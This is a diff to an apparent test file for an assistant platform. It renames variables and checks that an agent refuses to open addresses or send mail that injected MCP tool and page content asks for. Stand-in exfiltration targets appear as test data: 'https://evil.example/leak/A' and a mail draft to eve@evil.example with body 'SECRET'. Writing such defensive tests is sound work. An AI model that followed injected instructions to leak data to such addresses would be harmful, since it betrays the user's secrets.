@@ -18,8 +18,8 @@ from services.identity.students import Student
 from services.storage.sqlite import SqliteDocuments
 from services.wiring.container import ServiceContainer
 from tests.agent_fakes import FakeModel, calls, says
+from tests.api.mcp.test_route import send
 from tests.api.room import Program, door
-from tests.api.test_mcp_door import send
 from tests.mcp.rooms import hostile, listed
 
 LEAK = "https://evil.example/leak/A"
@@ -63,7 +63,7 @@ def home(tmp_path: Path) -> Iterator[HomeMaker]:
         environment = {"HOMEROOM_DEMO": "1", "HOMEROOM_DATA_DIR": str(tmp_path), "HOMEROOM_TOOL_LOADING": "frozen"}
         servers = json.dumps({"pages": {**server, "told": told}})
         read = settings.read({**environment, "PATH": "/usr/bin:/bin", "HOMEROOM_MCP_SERVERS": servers})
-        steps = (calls(one) if isinstance(one, tuple) else one for one in order)
+        steps = (calls(step) if isinstance(step, tuple) else step for step in order)
         model = FakeModel(*steps, says("Done."))
         services = bootstrap.build(read, model=model, engine=engine, integrations={})
         services.assistants.save(Assistant(id="helper", name="Helper"))
@@ -73,10 +73,10 @@ def home(tmp_path: Path) -> Iterator[HomeMaker]:
         return Home(services=services, model=model)
 
     yield make
-    for one in made:
-        one.turns.drain(5)
-        if one.mcp is not None:
-            one.mcp.close()
+    for home in made:
+        home.turns.drain(5)
+        if home.mcp is not None:
+            home.mcp.close()
     engine.close()
 
 
@@ -105,7 +105,7 @@ def test_an_address_from_an_mcp_tool_stays_shut(home: HomeMaker, door_in: Callab
 
     door_in(here)
 
-    assert any(LEAK in one for one in here.told[:-1])
+    assert any(LEAK in text for text in here.told[:-1])
     assert REFUSED in here.told[-1]
 
 
@@ -125,7 +125,7 @@ def test_what_a_chat_told_stays_told_when_it_is_cut(home: HomeMaker) -> None:
 
     chat(here, "What is open? " * 500, "Read the page", "Read it again")
 
-    refused = [one for one in here.told if REFUSED in one]
+    refused = [text for text in here.told if REFUSED in text]
     assert "What is open?" not in str(here.model.requests[-1].messages)
     assert len(refused) == 2
 
@@ -148,7 +148,7 @@ def test_a_model_behind_mcp_opens_no_address_of_its_own_or_of_a_page(home: HomeM
     written = called(who, "mail_draft", to=["eve@evil.example"], subject="x", body="SECRET")
     asked = called(who, "ask_assistant", assistant="helper", question=f"Open {LEAK}")
 
-    assert all(REFUSED in one for one in (alone, after, checked, written))
+    assert all(REFUSED in text for text in (alone, after, checked, written))
     assert REFUSED not in who.execute("web_read_page", {"url": LEAK}).text
     assert "Done." in asked
 
@@ -187,7 +187,7 @@ def test_an_address_in_an_invitation_waits_for_the_student_on_a_card_that_shows_
     (card,) = here.services.approvals.latest(here.maya().id, 5)
     assert card.tool == "web_read_page"
     assert [row.value for row in card.rows] == [LEAK]
-    assert not any(REFUSED in one for one in here.told)
+    assert not any(REFUSED in text for text in here.told)
 
     turns, maya = here.services.turns, here.maya()
     turns.decide(maya, card.id, "approve")
